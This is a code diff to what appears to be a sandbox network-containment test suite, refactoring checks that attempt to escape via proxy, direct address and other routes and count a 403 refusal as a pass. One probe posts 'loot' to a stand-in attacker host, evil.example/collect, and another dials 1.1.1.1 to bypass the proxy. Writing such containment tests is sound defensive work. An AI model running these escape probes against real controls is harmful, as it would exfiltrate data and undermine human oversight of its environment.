@@ -69,9 +69,10 @@ def look_for_the_secret(marker: str) -> None:
 def escape_by_proxy() -> None:
     try:
         status, text = call("https://evil.example/collect", data=b"loot")
-        report("send data to a host that is not allowed", status == 403, f"{status} {text[:60]}")
+        answer = f"{status} {text[:60]}"
     except OSError as error:
-        report("send data to a host that is not allowed", True, str(getattr(error, "reason", error)))
+        answer = str(getattr(error, "reason", error))
+    report("send data to a host that is not allowed", "403" in answer, answer)
 
 
 def escape_by_api() -> None:
@@ -93,13 +94,19 @@ def escape_by_fronting() -> None:
 
 
 def escape_by_address() -> None:
+    what = "connect to an address without the proxy"
     try:
-        with socket.create_connection(("1.1.1.1", 80), timeout=5) as sock:  # wherever it dials, it is the gateway
+        sock = socket.create_connection(("1.1.1.1", 80), timeout=5)
+    except OSError as error:
+        report(what, True, error.strerror or str(error))
+        return
+    with sock:  # wherever it dials, it is the gateway: only its refusal shows that
+        try:
             sock.sendall(b"GET / HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n")
             status = sock.recv(64).partition(b"\r\n")[0].decode("latin-1")
-            report("connect to an address without the proxy", status.startswith("HTTP/1.1 403 "), status)
-    except OSError as error:
-        report("connect to an address without the proxy", True, error.strerror or str(error))
+        except OSError as error:
+            status = f"connected, and then: {error}"
+    report(what, status.startswith("HTTP/1.1 403 "), status)
 
 
 def escape_by_dns() -> None:
